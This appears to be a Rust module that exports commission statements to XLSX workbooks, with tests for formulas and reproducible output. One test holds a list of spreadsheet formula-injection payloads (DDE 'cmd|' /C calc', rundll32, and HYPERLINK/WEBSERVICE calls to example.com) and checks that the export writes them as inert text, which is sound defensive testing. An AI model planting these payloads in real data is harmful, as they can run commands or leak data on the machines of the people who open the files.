//! A statement as a workbook: its figures, its entries, its adjustments.

use std::io::{self, Write};

use super::statement::{DocumentError, Line, Statement};
use super::workbook::{Book, Column, Sheet, Typed, rounded, sum_of};
use crate::domain::{Amount, Currency};

const FIGURES: [Column; 4] = [("item", 24), ("amount", 18), ("currency", 10), ("remark", 72)];
const ENTRIES: [Column; 10] = [
    ("sale", 24),
    ("seller", 36),
    ("rule", 20),
    ("from_partner", 16),
    ("window", 24),
    ("entry", 12),
    ("basis", 18),
    ("amount", 18),
    ("currency", 10),
    ("in_dispute", 11),
];
const ADJUSTMENTS: [Column; 4] =
    [("reason", 72), ("approved_by", 30), ("amount", 18), ("currency", 10)];

/// Writes a statement.
pub fn write(out: impl Write + Send, statement: &Statement) -> Result<(), DocumentError> {
    statement.check()?;
    let title = format!("Commission statement {}", statement.period);
    let issuer = statement.issuer.name.as_str();
    let mut book = Book::new(&title, issuer, statement.issued_on)?;
    figures(&mut book.sheet("Statement", &FIGURES)?, statement)?;
    entries(&mut book.sheet("Entries", &ENTRIES)?, statement)?;
    adjustments(&mut book.sheet("Adjustments", &ADJUSTMENTS)?, statement)?;
    Ok(book.write(out)?)
}

fn figures(sheet: &mut Sheet<'_>, statement: &Statement) -> io::Result<()> {
    let partner = &statement.partner;
    let remarks = [
        ("statement", statement.id.to_string()),
        ("period", statement.period.to_string()),
        ("status", statement.standing.as_str().to_owned()),
        ("partner", format!("{} ({}), {}", partner.name, partner.code, partner.city)),
        ("tax number", partner.ntn.as_ref().map(ToString::to_string).unwrap_or_default()),
    ];
    for (item, remark) in &remarks {
        sheet.row(&[Typed::Bold(item), Typed::Empty, Typed::Empty, Typed::Text(remark)])?;
    }
    let day = Typed::Day(statement.issued_on);
    sheet.row(&[Typed::Bold("date"), Typed::Empty, Typed::Empty, day])?;
    let gross = in_plan_currency(sheet, statement)?;
    in_payout_currency(sheet, statement, gross)?;
    let fingerprint = statement.fingerprint.to_string();
    for (item, remark) in
        [("fingerprint", fingerprint.as_str()), ("verification", &statement.verification_link)]
    {
        sheet.row(&[Typed::Bold(item), Typed::Empty, Typed::Empty, Typed::Text(remark)])?;
    }
    Ok(())
}

/// Writes the figures up to what is carried forward, and gives the row of the gross one.
fn in_plan_currency(sheet: &mut Sheet<'_>, statement: &Statement) -> io::Result<u32> {
    let (figures, currency) = (&statement.figures, statement.plan_currency);
    let below = |rows: usize| rows + 2;
    let commission = format!("=Entries!H{}", below(statement.lines.len()));
    let adjustments = format!("=Adjustments!C{}", below(statement.adjustments.len()));
    let first = sheet.next_row();
    let total = |formula, amount: Amount| total(formula, amount, currency);
    figure(
        sheet,
        "opening balance",
        Typed::Amount(figures.opening_balance, currency),
        currency,
        "",
    )?;
    figure(sheet, "commission", total(commission, figures.commission), currency, "")?;
    figure(sheet, "adjustments", total(adjustments, figures.adjustments), currency, "")?;
    let gross = sheet.next_row();
    let sum = rounded(&format!("SUM(B{first}:B{})", gross - 1), currency);
    figure(sheet, "gross", total(sum, figures.gross), currency, "")?;
    figure(sheet, "held", Typed::Amount(figures.held, currency), currency, "lines in dispute")?;
    let carried = Typed::Amount(figures.carried_forward, currency);
    figure(sheet, "carried forward", carried, currency, "")?;
    Ok(gross)
}

fn in_payout_currency(sheet: &mut Sheet<'_>, statement: &Statement, gross: u32) -> io::Result<()> {
    let (figures, currency) = (&statement.figures, statement.payout_currency);
    let payable = if statement.plan_currency == currency {
        let (held, carried) = (gross + 1, gross + 2);
        let left = rounded(&format!("B{gross}-B{held}-B{carried}"), currency);
        total(left, figures.payable, currency)
    } else {
        Typed::Amount(figures.payable, currency)
    };
    let rate = statement
        .conversion
        .map(|c| format!("1 {} = {} {}, rate of {}", c.base, c.rate, c.quote, c.dated));
    let first = sheet.next_row();
    figure(sheet, "payable", payable, currency, rate.as_deref().unwrap_or(""))?;
    let percent = statement.sales_tax.map(|percent| format!("{percent} %"));
    let tax = Typed::Amount(figures.sales_tax, currency);
    figure(sheet, "sales tax", tax, currency, percent.as_deref().unwrap_or(""))?;
    let percent = format!("{} %", statement.withholding_tax);
    let tax = Typed::Amount(figures.withholding_tax, currency);
    figure(sheet, "withholding tax", tax, currency, &percent)?;
    let net = rounded(&format!("B{first}+B{}-B{}", first + 1, first + 2), currency);
    figure(sheet, "net", total(net, figures.net, currency), currency, "")
}

fn figure(
    sheet: &mut Sheet<'_>,
    item: &str,
    amount: Typed<'_>,
    currency: Currency,
    remark: &str,
) -> io::Result<()> {
    sheet.row(&[Typed::Bold(item), amount, Typed::Text(currency.code()), Typed::Text(remark)])
}

fn entries(sheet: &mut Sheet<'_>, statement: &Statement) -> io::Result<()> {
    let currency = statement.plan_currency;
    for line in &statement.lines {
        entry(sheet, line, currency)?;
    }
    let sum = sum_of('H', sheet.next_row(), currency);
    let sum = total(sum, statement.figures.commission, currency);
    sheet.total("total", 7, sum, currency)
}

fn entry(sheet: &mut Sheet<'_>, line: &Line, currency: Currency) -> io::Result<()> {
    let window = line.window.map(|window| window.to_string());
    sheet.row(&[
        Typed::text(line.sale.as_deref()),
        Typed::text(line.seller.as_ref().map(|seller| seller.as_str())),
        Typed::Text(&line.rule),
        Typed::text(line.from_partner.as_ref().map(|from| from.as_str())),
        Typed::text(window.as_deref()),
        Typed::Text(line.kind.as_str()),
        Typed::amount(line.basis, currency),
        Typed::Amount(line.amount, currency),
        Typed::Text(currency.code()),
        Typed::Text(if line.in_dispute { "yes" } else { "no" }),
    ])
}

fn adjustments(sheet: &mut Sheet<'_>, statement: &Statement) -> io::Result<()> {
    let currency = statement.plan_currency;
    for adjustment in &statement.adjustments {
        sheet.row(&[
            Typed::Text(&adjustment.reason),
            Typed::Text(adjustment.approved_by.as_str()),
            Typed::Amount(adjustment.amount, currency),
            Typed::Text(currency.code()),
        ])?;
    }
    let sum = sum_of('C', sheet.next_row(), currency);
    let sum = total(sum, statement.figures.adjustments, currency);
    sheet.total("total", 2, sum, currency)
}

fn total<'a>(formula: String, amount: Amount, currency: Currency) -> Typed<'a> {
    Typed::Total(formula, i128::from(amount.minor()), currency)
}

#[cfg(test)]
mod tests {
    use super::super::statement::Recipient;
    use super::super::statement::samples::{minor, statement};
    use super::super::workbook::reading::{Found, cell, cells, part, times};
    use super::*;
    use crate::domain::Name;

    fn written(statement: &Statement) -> Vec<u8> {
        let mut out = Vec::new();
        write(&mut out, statement).unwrap();
        out
    }

    fn number(text: &str) -> Found {
        Found::Number(text.to_owned())
    }

    fn formula(formula: &str, result: &str) -> Found {
        Found::Formula(formula.to_owned(), result.to_owned())
    }

    #[test]
    fn totals_are_formulas_with_their_results() {
        let book = written(&statement());
        let figures = cells(&book, 1);
        for (name, found) in [
            ("B8", number("1000")),
            ("B9", formula("Entries!H6", "1809.64")),
            ("B10", formula("Adjustments!C3", "-250.00")),
            ("B11", formula("ROUND(SUM(B8:B10),2)", "2559.64")),
            ("B12", number("1900")),
            ("B14", number("184699.2")),
            ("B17", formula("ROUND(B14+B15-B16,2)", "192087.17")),
        ] {
            assert_eq!(cell(&figures, name), found, "{name}");
        }
        assert_eq!(cell(&cells(&book, 2), "H6"), formula("ROUND(SUM(H2:H5),2)", "1809.64"));
        assert_eq!(cell(&cells(&book, 3), "C3"), formula("ROUND(SUM(C2:C2),2)", "-250.00"));
    }

    #[test]
    fn without_lines_a_total_is_nothing() {
        let mut empty = statement();
        empty.lines.clear();
        empty.figures.commission = Amount::ZERO;
        empty.figures.gross = minor(75_000);
        empty.payout_currency = empty.plan_currency;
        empty.figures.held = Amount::ZERO;
        empty.figures.payable = minor(75_000);
        empty.figures.net = minor(75_000 + 2_955_187 - 2_216_390);
        let book = written(&empty);
        assert_eq!(cell(&cells(&book, 2), "H2"), formula("ROUND(0,2)", "0.00"));
        assert_eq!(cell(&cells(&book, 1), "B14"), formula("ROUND(B11-B12-B13,2)", "750.00"));
    }

    #[test]
    fn text_is_never_a_formula_and_a_clawback_is_a_number() {
        let book = written(&statement());
        let reason = Found::Text("=Booth that the programme paid".to_owned());
        assert_eq!(cell(&cells(&book, 3), "A2"), reason);
        assert_eq!(cell(&cells(&book, 2), "H3"), number("-780.36"));
        let formulas = (1..=3).flat_map(|sheet| cells(&book, sheet));
        let formulas = formulas.filter(|(_, found)| matches!(found, Found::Formula(..)));
        assert_eq!(formulas.count(), 6);
    }

    #[test]
    fn a_hundred_payloads_in_names_come_out_as_text() {
        const LEADS: [&str; 10] = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\"=", "|"];
        const BODIES: [&str; 10] = [
            "1+1",
            "SUM(A1:A9)",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://example.com?x=\"&A1)",
            "IMPORTXML(\"http://example.com\",\"//a\")",
            "WEBSERVICE(\"http://example.com\")",
            "DDE(\"cmd\";\"/C calc\")",
            "MSEXCEL|'calc.exe'!''",
            "rundll32|'URL.dll'!A",
            "2+5+cmd|' /C calc'!A0",
        ];
        let payloads = LEADS.iter().flat_map(|lead| BODIES.map(|body| format!("{lead}{body}")));
        for payload in payloads {
            let mut attacked = statement();
            let name = Name::parse(&payload).unwrap();
            attacked.partner.name = name.clone();
            attacked.lines.iter_mut().for_each(|line| line.seller = Some(name.clone()));
            attacked.adjustments[0].reason = payload.as_str().into();
            let book = written(&attacked);
            let cells: Vec<_> = (1..=3).flat_map(|sheet| cells(&book, sheet)).collect();
            let texts = |text: &str| {
                let written = [text.to_owned(), text.replace('\'', "&apos;")].map(Found::Text);
                cells.iter().filter(|(_, found)| written.contains(found)).count()
            };
            // The seller of each line, and the reason of the adjustment.
            assert_eq!(texts(&payload), attacked.lines.len() + 1, "{payload}");
            let Recipient { code, city, .. } = &attacked.partner;
            assert_eq!(texts(&format!("{payload} ({code}), {city}")), 1);
            let formulas = cells.iter().filter(|(_, found)| matches!(found, Found::Formula(..)));
            assert_eq!(formulas.count(), 6, "{payload}");
            assert_eq!(cell(&self::cells(&book, 2), "H3"), number("-780.36"), "{payload}");
        }
    }

    #[test]
    fn the_header_is_frozen_and_columns_have_their_widths() {
        let book = written(&statement());
        for sheet in 1..=3 {
            let xml = part(&book, &format!("xl/worksheets/sheet{sheet}.xml"));
            assert!(xml.contains("ySplit=\"1\"") && xml.contains("state=\"frozen\""));
            assert!(xml.contains("customWidth=\"1\""));
        }
    }

    #[test]
    fn the_same_statement_is_the_same_workbook() {
        let book = written(&statement());
        assert_eq!(book, written(&statement()));
        assert!(times(&book).iter().all(|time| time == "1980-01-01 00:00:00"));
        let created = "<dcterms:created xsi:type=\"dcterms:W3CDTF\">2026-08-03T00:00:00Z";
        assert!(part(&book, "docProps/core.xml").contains(created));
    }
}
